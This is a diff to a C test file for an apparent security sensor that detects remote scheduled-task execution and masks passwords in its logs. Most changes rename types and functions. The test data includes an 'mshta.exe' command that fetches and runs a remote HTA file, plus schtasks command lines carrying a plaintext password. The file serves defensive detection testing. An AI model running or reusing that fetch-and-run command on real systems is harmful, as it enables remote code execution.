@@ -15,7 +15,7 @@ open_sensor(void **state)
 	struct sensor *s = calloc(1, sizeof(*s));
 
 	assert_non_null(s);
-	s->d = desk_new(false);
+	s->d = offline_new(false);
 	settings_init(&s->settings);
 	s->c = correlate_new(&s->d->stats, s->d->eve, &s->settings, NULL);
 	assert_non_null(s->c);
@@ -30,13 +30,13 @@ close_sensor(void **state)
 
 	correlate_free(s->c);
 	settings_free(&s->settings);
-	desk_free(s->d);
+	offline_free(s->d);
 	free(s);
 	return 0;
 }
 
 static void
-put(struct sensor *s, struct obs *o)
+put(struct sensor *s, struct fact *o)
 {
 	struct sink *sink = correlate_sink(s->c);
 
@@ -84,21 +84,21 @@ has_reason(const struct sensor *s, size_t n, const char *id)
 #define EVIL	"mshta.exe http://198.51.100.7/a.hta"
 #define PLAIN	"C:\\Windows\\System32\\robocopy.exe D:\\data E:\\copy /mir"
 
-static struct obs *
+static struct fact *
 task_that(struct sensor *s, const char *action, const char *name, const char *line)
 {
-	struct obs *o = task(s->d);
+	struct fact *o = task(s->d);
 
-	obs_str(o, F_ACTION, action);
-	obs_str(o, F_ROUTE, "rpc");
-	obs_str(o, F_VISIBILITY, "clear");
-	obs_str(o, F_OUTCOME, "success");
-	obs_str(o, F_AUTH_USER, "bob");
-	obs_str(o, F_NAME, name);
+	fact_str(o, F_ACTION, action);
+	fact_str(o, F_ROUTE, "rpc");
+	fact_str(o, F_VISIBILITY, "clear");
+	fact_str(o, F_OUTCOME, "success");
+	fact_str(o, F_AUTH_USER, "bob");
+	fact_str(o, F_NAME, name);
 	if (line != NULL) {
-		obs_next(o, F_ACT_TYPE);
-		obs_str(o, F_ACT_TYPE, "exec");
-		obs_str(o, F_ACT_COMMAND_LINE, line);
+		fact_next(o, F_ACT_TYPE);
+		fact_str(o, F_ACT_TYPE, "exec");
+		fact_str(o, F_ACT_COMMAND_LINE, line);
 	}
 	return o;
 }
@@ -192,22 +192,22 @@ distinct_tasks_are_all_alerted(void **state)
 
 /* ---- What becomes of them ---- */
 
-static struct obs *
+static struct fact *
 sealed_call(struct sensor *s, const char *action, const char *procedure, int64_t opnum,
     int64_t size, int64_t seconds)
 {
-	struct obs *o = task(s->d);
+	struct fact *o = task(s->d);
 
-	obs_str(o, F_ACTION, action);
-	obs_str(o, F_ROUTE, "rpc");
-	obs_str(o, F_VISIBILITY, "sealed");
-	obs_str(o, F_OUTCOME, "unknown");
-	obs_str(o, F_AUTH_USER, "bob");
-	obs_str(o, F_RPC_PROCEDURE, procedure);
-	obs_str(o, F_RPC_TRANSPORT, "ncacn_np");
-	obs_str(o, F_RPC_SYNTAX, "ndr");
-	obs_int(o, F_RPC_OPNUM, opnum);
-	obs_int(o, F_STUB_SIZE, size);
+	fact_str(o, F_ACTION, action);
+	fact_str(o, F_ROUTE, "rpc");
+	fact_str(o, F_VISIBILITY, "sealed");
+	fact_str(o, F_OUTCOME, "unknown");
+	fact_str(o, F_AUTH_USER, "bob");
+	fact_str(o, F_RPC_PROCEDURE, procedure);
+	fact_str(o, F_RPC_TRANSPORT, "ncacn_np");
+	fact_str(o, F_RPC_SYNTAX, "ndr");
+	fact_int(o, F_RPC_OPNUM, opnum);
+	fact_int(o, F_STUB_SIZE, size);
 	o->at.us += seconds * 1000000;
 	return o;
 }
@@ -216,7 +216,7 @@ static void
 a_sealed_remote_execution_is_alerted_by_what_it_does(void **state)
 {
 	struct sensor *s = *state;
-	struct obs *read;
+	struct fact *read;
 
 	put(s, sealed_call(s, "create", "SchRpcRegisterTask", 1, 3000, 0));
 	put(s, sealed_call(s, "run", "SchRpcRun", 12, 56, 1));
@@ -231,7 +231,7 @@ a_sealed_remote_execution_is_alerted_by_what_it_does(void **state)
 	assert_string_equal(text_at(s, 5, "detection.verdict"), "suspicious");
 
 	read = task_that(s, "query", "\\QwErTyUi", NULL);
-	obs_str(read, F_ROUTE, "file");
+	fact_str(read, F_ROUTE, "file");
 	read->at.us += 6000000;
 	put(s, read);
 	assert_int_equal(s->d->lines, 8);
@@ -246,12 +246,12 @@ static void
 to_make_run_and_delete_a_task_is_no_alert(void **state)
 {
 	struct sensor *s = *state;
-	struct obs *o = task_that(s, "create", "\\Deploy", PLAIN);
+	struct fact *o = task_that(s, "create", "\\Deploy", PLAIN);
 
-	obs_str(o, F_USER_ID, "S-1-5-18");
-	obs_str(o, F_RUN_LEVEL, "HighestAvailable");
-	obs_bool(o, F_SET_HIDDEN, true);
-	obs_str(o, F_SET_DELETE_AFTER, "PT0S");
+	fact_str(o, F_USER_ID, "S-1-5-18");
+	fact_str(o, F_RUN_LEVEL, "HighestAvailable");
+	fact_bool(o, F_SET_HIDDEN, true);
+	fact_str(o, F_SET_DELETE_AFTER, "PT0S");
 	put(s, o);
 	put(s, task_that(s, "run", "\\Deploy", NULL));
 	put(s, task_that(s, "delete", "\\Deploy", NULL));
@@ -324,15 +324,15 @@ passwords_are_masked_in_every_text(void **state)
 	static const char line[] = "schtasks /create /s FS01 /u CORP\\bob /p Hunter2! /tn x";
 	struct sensor *s = *state;
 	struct desk *d = s->d;
-	struct obs *o = task(d);
+	struct fact *o = task(d);
 	json_t *j, *a;
 
-	obs_str(o, F_DESCRIPTION, line);
-	obs_str(o, F_VISIBILITY, "clear");
-	obs_next(o, F_ACT_TYPE);
-	obs_str(o, F_ACT_COMMAND_LINE, "cmd.exe");
-	obs_next(o, F_ACT_TYPE);
-	obs_str(o, F_ACT_COMMAND_LINE, line);
+	fact_str(o, F_DESCRIPTION, line);
+	fact_str(o, F_VISIBILITY, "clear");
+	fact_next(o, F_ACT_TYPE);
+	fact_str(o, F_ACT_COMMAND_LINE, "cmd.exe");
+	fact_next(o, F_ACT_TYPE);
+	fact_str(o, F_ACT_COMMAND_LINE, line);
 	put(s, o);
 	put(s, NULL);
 	assert_int_equal(d->lines, 1);
@@ -354,15 +354,15 @@ a_spent_budget_shows_no_password(void **state)
 {
 	struct sensor *s = *state;
 	struct desk *d = s->d;
-	struct obs *o = task(d);
+	struct fact *o = task(d);
 
-	obs_bool(o, F_HAS_PASSWORD, true);
-	obs_str(o, F_DESCRIPTION, "schtasks /s FS01 /u bob /p Hunter2! /tn x");
+	fact_bool(o, F_HAS_PASSWORD, true);
+	fact_str(o, F_DESCRIPTION, "schtasks /s FS01 /u bob /p Hunter2! /tn x");
 	d->budget.limit = d->budget.used;
 	put(s, o);
 	assert_null(strstr(d->line, "Hunter2"));
 	assert_non_null(strstr(d->line, "\"description\":\"***\""));
-	assert_int_equal(d->stats.n[STAT_OBS_CUT], 1);
+	assert_int_equal(d->stats.n[STAT_FACT_CUT], 1);
 }
 
 static void
@@ -370,10 +370,10 @@ text_without_passwords_is_left_alone(void **state)
 {
 	struct sensor *s = *state;
 	struct desk *d = s->d;
-	struct obs *o = task(d);
+	struct fact *o = task(d);
 
-	obs_str(o, F_DESCRIPTION, "nothing to hide");
-	obs_str(o, F_VISIBILITY, "sealed");
+	fact_str(o, F_DESCRIPTION, "nothing to hide");
+	fact_str(o, F_VISIBILITY, "sealed");
 	put(s, o);
 	assert_non_null(strstr(d->line, "\"description\":\"nothing to hide\""));
 	assert_null(strstr(d->line, "has_password"));
@@ -387,13 +387,13 @@ a_command_has_no_password_either(void **state)
 	static const char line[] = "schtasks /create /s FS01 /u CORP\\bob /p Hunter2! /tn x";
 	struct sensor *s = *state;
 	struct desk *d = s->d;
-	struct obs *o = command(d);
+	struct fact *o = command(d);
 	json_t *j, *said;
 
-	obs_str(o, F_CMD_LINE, line);
-	obs_str(o, F_CMD_SCRIPT, line);
-	obs_next(o, F_CMD_DEC_METHOD);
-	obs_str(o, F_CMD_DEC_TEXT, line);
+	fact_str(o, F_CMD_LINE, line);
+	fact_str(o, F_CMD_SCRIPT, line);
+	fact_next(o, F_CMD_DEC_METHOD);
+	fact_str(o, F_CMD_DEC_TEXT, line);
 	put(s, o);
 	assert_null(strstr(d->line, "Hunter2"));
 	j = parsed(d);
@@ -411,9 +411,9 @@ commands_are_counted_by_how_they_were_seen(void **state)
 	struct desk *d = s->d;
 
 	for (size_t i = 0; i < sizeof(how) / sizeof(how[0]); i++) {
-		struct obs *o = command(d);
+		struct fact *o = command(d);
 
-		obs_str(o, F_CMD_VISIBILITY, how[i]);
+		fact_str(o, F_CMD_VISIBILITY, how[i]);
 		put(s, o);
 	}
 	assert_int_equal(d->stats.n[STAT_COMMANDS_CLEAR], 1);
